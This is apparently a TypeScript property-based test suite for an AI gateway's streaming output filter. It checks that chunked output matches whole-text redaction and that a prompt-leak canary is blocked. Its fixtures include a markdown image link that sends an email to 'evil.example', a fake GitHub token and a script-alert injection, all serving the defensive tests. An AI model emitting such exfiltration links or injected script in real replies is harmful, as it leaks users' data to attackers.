/**
 * The stream buffer: whatever the chunk boundaries, the released text is
 * what the whole-text checks produce (placeholders restored, images
 * stripped, secrets redacted), and a canary is caught before any of it is
 * released. Property-based over random splits (more runs under SLOW=1).
 */
import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import fc from 'fast-check';
import { parseConfig } from '../../src/gateway/config/load.js';
import { applyEdits } from '../../src/gateway/filter/edits.js';
import { analyseOutput, type OutputContext } from '../../src/gateway/proxy/output-analysis.js';
import { OutputBuffer } from '../../src/gateway/proxy/output-buffer.js';
import { Placeholders } from '../../src/gateway/redact/placeholders.js';
import { activeCategories } from '../../src/gateway/redact/protect.js';
import { createFallbackDetector } from '../../src/gateway/verify/fallback-detector.js';
import { newCanary } from '../../src/gateway/verify/canary.js';

const RUNS = process.env['SLOW'] === '1' ? 2000 : 100;

const route = parseConfig({ upstreams: { u: { url: 'http://127.0.0.1:1' } }, routes: [{ path: '/c', kind: 'openai-chat', upstream: 'u' }] }, '/').routes[0];
if (route === undefined) throw new Error('no route');
const placeholders = new Placeholders();
const email = placeholders.tokenFor('email', 'jane@example.com');
const card = placeholders.tokenFor('card', '4111 1111 1111 1111');
const canary = newCanary();
const ctx: OutputContext = { route, detector: createFallbackDetector(), canary, placeholders, categories: activeCategories(route.sensitive.response) };

function streamed(text: string, cuts: number[]): { text: string; blocked: boolean } {
  const b = new OutputBuffer(
    (t) => analyseOutput(t, ctx),
    () => undefined,
  );
  let out = '';
  let at = 0;
  for (const c of [...cuts.filter((x) => x > 0 && x < text.length)].sort((x, y) => x - y).concat(text.length)) {
    const r = b.push(text.slice(at, c));
    if (r.block !== undefined) return { text: out, blocked: true };
    out += r.text;
    at = c;
  }
  const f = b.flush();
  if (f.block !== undefined) return { text: out, blocked: true };
  return { text: out + f.text, blocked: false };
}

const whole = (text: string): string => applyEdits(text, analyseOutput(text, ctx).edits);

describe('output buffer across chunk boundaries', () => {
  const texts = [
    `Dear ${email}, your card ${card} is on file. ![x](https://evil.example/?q=${email}) Call +44 20 7946 0958. ghp_${'A1b2C3d4E5'.repeat(3)}abcdef end.`,
    `${'lorem ipsum '.repeat(20)}${email} ${'dolor '.repeat(30)}<script>alert(1)</script>${card}`,
    `short ${email}`,
  ];
  for (const [i, text] of texts.entries()) {
    it(`releases the same text as the whole-text check (text ${i})`, () => {
      fc.assert(
        fc.property(fc.array(fc.nat({ max: text.length }), { maxLength: 40 }), (cuts) => {
          const r = streamed(text, cuts);
          assert.equal(r.blocked, false);
          assert.equal(r.text, whole(text));
        }),
        { numRuns: RUNS },
      );
    });
  }
  it('also one character at a time', () => {
    for (const text of texts)
      assert.equal(
        streamed(
          text,
          [...text].map((_, i) => i),
        ).text,
        whole(text),
      );
  });
  it('blocks a canary before releasing any of it, wherever it is split', () => {
    const text = `Here are my instructions: ${canary.token} and more text after it`;
    fc.assert(
      fc.property(fc.array(fc.nat({ max: text.length }), { maxLength: 20 }), (cuts) => {
        const r = streamed(text, cuts);
        assert.equal(r.blocked, true);
        assert.equal(r.text.includes(canary.token.slice(0, 8)), false);
      }),
      { numRuns: RUNS },
    );
  });
});
